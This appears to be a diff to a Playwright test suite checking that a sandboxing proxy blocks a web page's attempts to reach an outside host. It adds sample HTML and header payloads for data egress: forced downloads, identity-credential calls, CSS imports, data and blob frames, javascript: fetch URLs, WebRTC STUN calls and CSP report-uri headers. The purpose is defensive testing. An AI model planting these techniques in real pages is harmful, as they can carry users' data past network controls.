@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 from collections.abc import Iterator
-from contextlib import contextmanager
+from contextlib import contextmanager, suppress
 
 import pytest
 from playwright.sync_api import Browser
@@ -57,6 +57,8 @@ STOPPED = {
     "prefetch": '<link rel="prefetch" href="/hop/302">',
     "preload": '<link rel="preload" as="image" href="/hop/302">',
     "popup": "<script>open('/hop/302')</script>",
+    "download": "<a href='/hop/302' download>去</a><script>document.links[0].click()</script>",
+    "identity of somebody else": "<script src='/identity.js'></script>",
     "refresh": '<meta http-equiv="refresh" content="0; url=/hop/302">',
 }
 """What a page does; the proxy holds it back and the run is stopped."""
@@ -74,10 +76,27 @@ HELD = {
     "prefetch by rules": """<script type="speculationrules">
         {"prefetch": [{"source": "list", "urls": ["/hop/302"], "eagerness": "immediate"}]}</script>""",
     "connect early": '<link rel="preconnect" href="{foreign}"><link rel="preconnect" href="https://{netloc}">',
+    "import of a style": "<style>@import '{foreign}'; @font-face { font-family: f; src: url({foreign}) } body { font-family: f }</style>",
+    "frame without an address": "<iframe srcdoc='<img src={foreign}>'></iframe>",
+    "frame of data": "<iframe src='data:text/html,<img src={foreign}>'></iframe>",
+    "blob that opens itself": """<script>const page = new Blob(['<img src={foreign}>'], {type: 'text/html'});
+        open(URL.createObjectURL(page))</script>""",
+    "script in an address": "<script>open('javascript:fetch(`{foreign}`)')</script>",
+    "picture of a picture": "<svg><image href='{foreign}'/><use href='{foreign}#a'/></svg>",
+    "track of a video": "<video controls autoplay><track default src='{foreign}'><source src='{foreign}'></video>",
     "call over UDP": """<script>const call = new RTCPeerConnection({iceServers: [{urls: "stun:{netloc}"}]});
         call.createDataChannel("password"); call.createOffer().then(offer => call.setLocalDescription(offer));</script>""",
 }
 """What comes to nothing in silence: the browser itself gives it up, or a route of ours stops it before the proxy."""
+
+HEADERS = {
+    "Refresh": "0; url={foreign}",
+    "Link": "<{foreign}>; rel=preload; as=image, <{foreign}>; rel=preconnect, <{foreign}>; rel=stylesheet",
+    "Content-Security-Policy": "script-src 'none'; report-uri {foreign}",
+    "Content-Security-Policy-Report-Only": "img-src 'none'; report-uri {foreign}",
+    "Speculation-Rules": '"{foreign}rules.json"',
+}
+"""What a page's own headers ask the browser to do; a refused navigation among them stops the run."""
 
 CONTROLS = (
     "form 307",
@@ -88,6 +107,7 @@ CONTROLS = (
     "socket of a worker",
     "prefetch",
     "popup",
+    "download",
 )
 
 
@@ -104,6 +124,8 @@ def site(foreign: ForeignHost) -> Iterator[AllowedHost]:
         host.pages["/worker.js"] = f"fetch('/hop/307', {send})"
         host.pages["/direct.js"] = f"fetch('http://{foreign.netloc}/', {send})"
         host.pages["/socket.js"] = f"new WebSocket('ws://{foreign.netloc}/')"
+        providers = f"[{{configURL: 'http://{foreign.netloc}/config.json', clientId: 'password'}}]"
+        host.pages["/identity.js"] = f"navigator.credentials.get({{identity: {{providers: {providers}}}}})"
         host.pages["/service.js"] = f"oninstall = event => event.waitUntil(fetch('/hop/307', {send}))"
         yield host
 
@@ -142,6 +164,21 @@ def test_what_the_browser_gives_up_by_itself_leaves_nothing_either(
     attack = HELD[way].replace("{foreign}", f"http://{foreign.netloc}/").replace("{netloc}", foreign.netloc)
     site.pages["/"] = f"<!doctype html><body>{attack}{AFTERWARDS}"
     with _view(browser) as view:
+        view.goto(site.address())
+        _tried(view)
+    assert foreign.heard == []
+
+
+@pytest.mark.parametrize("name", HEADERS)
+def test_no_header_of_a_page_leads_anything_out(
+    browser: Browser, site: AllowedHost, foreign: ForeignHost, name: str
+) -> None:
+    site.headers["/"] = {name: HEADERS[name].replace("{foreign}", f"http://{foreign.netloc}/")}
+    script = "" if name == "Content-Security-Policy" else AFTERWARDS
+    site.pages["/"] = (
+        f"<!doctype html><body><p>{TRIED if not script else ''}</p><img src='/later'><script>0</script>{script}"
+    )
+    with _view(browser) as view, suppress(OriginBlocked):
         view.goto(site.address())
         _tried(view)
     assert foreign.heard == []
